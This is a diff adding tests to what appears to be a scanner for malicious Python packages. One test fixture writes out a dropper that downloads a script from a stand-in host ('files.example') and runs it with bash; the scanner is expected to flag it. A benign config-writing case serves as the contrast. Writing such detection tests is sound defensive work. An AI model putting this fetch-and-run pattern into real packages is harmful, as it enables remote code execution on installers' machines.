@@ -631,3 +631,33 @@ def test_other_words_spelled_as_character_codes_are_obfuscation_below_the_thresh
     )
     rules, held = _report(wheel({"demo/__init__.py": source}), "demo-1.0-py3-none-any.whl")
     assert not held and rules["obfuscated"] == 8
+
+
+def test_a_program_written_a_line_at_a_time_is_read_as_code() -> None:
+    source = (
+        "import subprocess\n"
+        "def check():\n"
+        "    with open('/tmp/job.py', 'w') as f:\n"
+        "        f.write('import subprocess\\n')\n"
+        "        f.write('from urllib import request\\n')\n"
+        "        f.write('target = HOME + \"/job.sh\"\\n')\n"
+        "        f.write('request.urlretrieve(\"https://files.example/j\", target)\\n')\n"
+        "        f.write('subprocess.call(\"bash ~/job.sh\", shell=True)\\n')\n"
+        "    subprocess.call('python3 /tmp/job.py &', shell=True)\n"
+    )
+    rules, held = _report(_package({"demo/job.py": source}), "demo-1.0.tar.gz")
+    assert held and rules["drop-run"] == 10
+
+
+def test_a_config_file_written_a_line_at_a_time_is_not_code() -> None:
+    source = (
+        "import subprocess\n"
+        "def configure():\n"
+        "    with open('setup.cfg', 'w') as f:\n"
+        "        f.write('[metadata]\\n')\n"
+        "        f.write('name = demo\\n')\n"
+        "        f.write('url = https://files.example/demo\\n')\n"
+        "    subprocess.call(['python', '-m', 'build'])\n"
+    )
+    rules, held = _report(_package({"demo/cfg.py": source}), "demo-1.0.tar.gz")
+    assert not held and "drop-run" not in rules
